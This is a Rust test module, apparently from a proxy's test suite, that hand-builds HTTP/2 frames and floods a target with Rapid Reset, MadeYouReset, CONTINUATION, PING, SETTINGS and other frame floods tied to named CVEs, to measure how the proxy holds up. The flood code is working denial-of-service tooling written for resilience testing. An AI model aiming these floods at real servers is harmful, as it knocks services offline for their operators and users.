//! The floods, as frames (RFC 9113, 4 and 6).

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use pilotlight_tests::proxies::HOST;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::time::timeout_at;

/// One kind of flood.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// Frames of a stream that is there for the flood.
    first: fn() -> Vec<u8>,
    /// The frames of one round, for a stream of its own.
    round: fn(u32) -> Vec<u8>,
    frames_a_round: usize,
    reads: bool,
}

/// Frames that were sent until the connection ended, or the time was over.
pub(crate) struct Sent {
    pub(crate) frames: usize,
    pub(crate) bytes: usize,
    pub(crate) has_ended: bool,
}

pub(crate) const FLOODS: &[Flood] = &[
    Flood { name: "requests that are reset at once (CVE-2023-44487)", round: rapid_reset, ..TWO_FRAMES },
    Flood { name: "requests that we have to reset (CVE-2025-8671)", round: made_you_reset, ..TWO_FRAMES },
    Flood { name: "malformed heads", round: malformed_head, ..ONE_FRAME },
    Flood { name: "malformed heads, nothing read", round: malformed_head, reads: false, ..ONE_FRAME },
    Flood { name: "PING", round: |_| frame(PING, 0, 0, &[0; 8]), ..ONE_FRAME },
    Flood { name: "PING, nothing read", round: |_| frame(PING, 0, 0, &[0; 8]), reads: false, ..ONE_FRAME },
    Flood { name: "SETTINGS", round: |_| frame(SETTINGS, 0, 0, &[]), ..ONE_FRAME },
    Flood {
        name: "SETTINGS, nothing read",
        round: |_| frame(SETTINGS, 0, 0, &[]),
        reads: false,
        ..ONE_FRAME
    },
    Flood { name: "DATA without content", first: post, round: |_| frame(DATA, 0, 1, &[]), ..ONE_FRAME },
    Flood { name: "DATA of one byte", first: post, round: |_| frame(DATA, 0, 1, b"x"), ..ONE_FRAME },
    Flood {
        name: "CONTINUATION of one byte (CVE-2024-27316)",
        first: || frame(HEADERS, 0, 1, &head("POST")),
        // A field with a name of one byte and no value, in three frames.
        round: |_| [[0], [1], [b'x'], [0]].iter().flat_map(|byte| frame(CONTINUATION, 0, 1, byte)).collect(),
        frames_a_round: 4,
        ..ONE_FRAME
    },
    Flood {
        name: "CONTINUATION without content",
        first: || frame(HEADERS, 0, 1, &head("POST")),
        round: |_| frame(CONTINUATION, 0, 1, &[]),
        ..ONE_FRAME
    },
    Flood { name: "WINDOW_UPDATE of the connection", round: |_| window_update(0, 1), ..ONE_FRAME },
    Flood { name: "WINDOW_UPDATE of a stream", first: post, round: |_| window_update(1, 1), ..ONE_FRAME },
    Flood { name: "PRIORITY", round: |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 15]), ..ONE_FRAME },
];

const ONE_FRAME: Flood =
    Flood { name: "", first: Vec::new, round: |_| Vec::new(), frames_a_round: 1, reads: true };
const TWO_FRAMES: Flood = Flood { frames_a_round: 2, ..ONE_FRAME };

impl Flood {
    pub(crate) async fn send(&self, to: SocketAddr, longest: Duration) -> anyhow::Result<Sent> {
        let until = (Instant::now() + longest).into();
        let socket = TcpSocket::new_v4()?;
        // Little is sent that the proxy never reads.
        socket.set_send_buffer_size(SEND_BUFFER_BYTES)?;
        let (mut reader, mut writer) = socket.connect(to).await?.into_split();
        writer
            .write_all(&[&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &[])].concat())
            .await?;
        writer.write_all(&(self.first)()).await?;
        let reading = self.reads.then(|| {
            tokio::spawn(async move {
                let mut space = vec![0; 64 << 10];
                while reader.read(&mut space).await.is_ok_and(|read| read > 0) {}
            })
        });
        let mut sent = Sent { frames: 0, bytes: 0, has_ended: false };
        let mut streams = (1..).map(|number| 2 * number + 1);
        loop {
            let rounds: Vec<u8> =
                streams.by_ref().take(ROUNDS).flat_map(|stream| (self.round)(stream)).collect();
            match timeout_at(until, writer.write_all(&rounds)).await {
                Ok(Ok(())) => {
                    sent.frames += ROUNDS * self.frames_a_round;
                    sent.bytes += rounds.len();
                }
                Ok(Err(_)) => {
                    sent.has_ended = true;
                    break;
                }
                Err(_) => break,
            }
        }
        if let Some(reading) = reading {
            reading.abort();
        }
        Ok(sent)
    }
}

fn rapid_reset(stream: u32) -> Vec<u8> {
    [get(stream), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
}

fn made_you_reset(stream: u32) -> Vec<u8> {
    [get(stream), window_update(stream, 0)].concat()
}

fn malformed_head(stream: u32) -> Vec<u8> {
    let field = [&[0, 3][..], b"X-A", &[1], b"b"].concat();
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &[head("GET"), field].concat())
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET"))
}

/// A request on stream 1 whose body goes on.
fn post() -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, &head("POST"))
}

/// A header list, written out (RFC 7541, 6.2.2) but for the method and the scheme.
fn head(method: &str) -> Vec<u8> {
    let method = if method == "GET" { 0x82 } else { 0x83 };
    let text = |name: u8, value: &str| [&[name, value.len() as u8][..], value.as_bytes()].concat();
    [vec![method, 0x86], text(0x04, "/"), text(0x01, HOST)].concat()
}

fn window_update(stream: u32, by: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Rounds that are written together.
const ROUNDS: usize = 10;

const SEND_BUFFER_BYTES: u32 = 16 << 10;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
